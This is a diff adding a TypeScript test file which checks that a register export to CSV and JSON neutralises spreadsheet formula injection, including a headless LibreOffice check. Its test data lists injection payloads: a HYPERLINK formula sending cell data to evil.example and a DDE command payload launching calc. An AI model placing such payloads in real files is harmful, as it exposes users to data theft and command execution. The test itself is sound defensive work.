@@ -1,0 +1,153 @@
+import { execFile, execFileSync } from 'node:child_process';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { describe, expect, test } from 'vitest';
+import type { ActionId, DocumentId, OrganisationId, PersonId, SessionId } from '#shared/ids.ts';
+import type { RegisterAction } from '#shared/views.ts';
+import { registerFile, type RegisterFileOptions } from '#server/export/register-file.ts';
+import { parseCsv } from '../support/csv.ts';
+
+/** What spreadsheets take for formulas, or have taken. */
+const FORMULAS = [
+	'=HYPERLINK("https://evil.example/?x="&A1,"Open")',
+	'+1+1',
+	'-2+3',
+	'@SUM(1,1)',
+	'\t=1+1',
+	'\r=1+1',
+	'\n=1+1',
+	'  =1+1',
+	'\u0000=1+1',
+	'\ufeff=1+1',
+	'＝1+1',
+	"=cmd|' /C calc'!A0"
+];
+
+const organisation = (code: string) => ({
+	...{ id: 'o' as OrganisationId, code, name: code, country: 'EU', colour: 'blue' }
+});
+
+function action(words: string, change: Partial<RegisterAction> = {}): RegisterAction {
+	return {
+		...{ id: 'a' as ActionId, document: 'd' as DocumentId, item: undefined, reference: 'JS-01-A1' },
+		session: { id: 's' as SessionId, reference: 'JS-01', title: words },
+		...{ label: 'TLP:AMBER', text: words, priority: 'normal', lead: organisation(words) },
+		...{ leadPerson: { id: 'p' as PersonId, name: words }, support: [organisation(words)] },
+		...{ informed: [organisation(words)], due: '2024-09-30', originalDue: undefined, slips: 2 },
+		...{ overdue: true, status: 'in-progress', takenOn: 'accepted', revision: 1, changedAt: 0 },
+		...{ illustrative: true, void: false, mayEdit: true, moves: ['start'] },
+		...change
+	};
+}
+
+async function* pages(...all: RegisterAction[][]) {
+	yield* all;
+}
+
+async function file(rows: RegisterAction[][], options: Partial<RegisterFileOptions> = {}) {
+	const wanted = { format: 'csv', bom: false, delimiter: ',', ...options } as const;
+	return (await Array.fromAsync(registerFile(pages(...rows), wanted))).join('');
+}
+
+const hostile = FORMULAS.map((words) => action(words));
+
+describe('the register as CSV', () => {
+	test('has the label first, marks what is illustrative, and keeps a void number', async () => {
+		const gone = action('', { reference: 'JS-01-A2', void: true, illustrative: false });
+		const [head = [], ...rows] = parseCsv(await file([[action('Send it')], [gone]]));
+		const cells = rows.map((row) => Object.fromEntries(head.map((name, i) => [name, row[i]])));
+		expect(head[0]).toBe('Label');
+		expect(cells[0]).toMatchObject({
+			...{ Label: 'TLP:AMBER', Reference: 'JS-01-A1', Action: 'Send it', Overdue: 'yes' },
+			...{ Status: 'In progress', Illustrative: 'yes', 'Put off': '2', Due: '2024-09-30' }
+		});
+		expect(cells[1]).toMatchObject({ Reference: 'JS-01-A2', Action: 'void', Status: 'Void' });
+	});
+
+	test.for([',', ';'] as const)(
+		'reads back with "%s", whatever the words hold',
+		async (delimiter) => {
+			const words = [
+				'a,b;c',
+				'say "no"',
+				'two\nlines',
+				'two\n=1+1',
+				'Ελληνικά, україн́ська, ő ű ș',
+				'spaced '
+			];
+			const text = await file([words.map((one) => action(one))], { delimiter });
+			const rows = parseCsv(text, delimiter);
+			expect(rows.slice(1).map((row) => row[4])).toEqual(words);
+			expect(new Set(rows.map((row) => row.length))).toEqual(new Set([18]));
+		}
+	);
+
+	test('begins with a byte order mark only where that is wanted', async () => {
+		expect((await file([[action('x')]], { bom: true })).match(/\ufeff/g)).toHaveLength(1);
+		expect(await file([[action('x')]])).not.toContain('\ufeff');
+	});
+
+	test('holds no cell that a spreadsheet would take for a formula', async () => {
+		const cells = parseCsv(await file([hostile])).flat();
+		expect(cells.filter((cell) => /^\s*[=+\-@\t\r\u0000\ufeff＝＋－＠]/.test(cell))).toEqual([]);
+		expect(cells.filter((cell) => cell.startsWith("'="))).not.toEqual([]);
+	});
+
+	test('is inert in LibreOffice', async ({ skip }) => {
+		const office = libreOffice();
+		if (!office) {
+			console.log('skipped: no soffice here; install libreoffice-calc-nogui to run this test');
+			return skip('LibreOffice is not installed');
+		}
+		const sheet = await opened(office, await file([hostile]));
+		expect(sheet).toContain('HYPERLINK'); // as text
+		expect(sheet).not.toMatch(/table:formula|xlink:href="https:\/\/evil/);
+		// The same words without protection are a formula: the test would see one.
+		expect(await opened(office, 'Action\r\n=1+1\r\n')).toMatch(/table:formula/);
+	}, 120_000);
+});
+
+describe('the register as JSON', () => {
+	test('says which version it is, and has the label on every action', async () => {
+		const gone = action('', { void: true });
+		const text = await file([hostile, [], [gone]], { format: 'json' });
+		const data = JSON.parse(text) as { schema: string; actions: Record<string, unknown>[] };
+		expect(data.schema).toBe('briefing-board/actions/1');
+		expect(data.actions).toHaveLength(FORMULAS.length + 1);
+		expect(data.actions[0]).toMatchObject({
+			...{ label: 'TLP:AMBER', text: FORMULAS[0], changedAt: '1970-01-01T00:00:00.000Z' }
+		});
+		expect(data.actions.every(({ label }) => label === 'TLP:AMBER')).toBe(true);
+		expect(text).not.toMatch(/mayEdit|moves/);
+	});
+
+	test('is whole when there is nothing in it', async () => {
+		expect(JSON.parse(await file([], { format: 'json' }))).toMatchObject({ actions: [] });
+	});
+});
+
+function libreOffice(): string | undefined {
+	try {
+		return execFileSync('which', ['soffice'], { encoding: 'utf8' }).trim();
+	} catch {
+		return undefined;
+	}
+}
+
+/** What LibreOffice makes of a CSV file, as the XML that it keeps a sheet in. */
+async function opened(office: string, csv: string): Promise<string> {
+	const folder = await mkdtemp(join(tmpdir(), 'register-csv-'));
+	try {
+		await writeFile(join(folder, 'sheet.csv'), csv);
+		await promisify(execFile)(office, [
+			...[`-env:UserInstallation=file://${folder}/profile`, '--headless'],
+			...['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'],
+			...['--convert-to', 'fods', '--outdir', folder, join(folder, 'sheet.csv')]
+		]);
+		return await readFile(join(folder, 'sheet.fods'), 'utf8');
+	} finally {
+		await rm(folder, { recursive: true, force: true });
+	}
+}
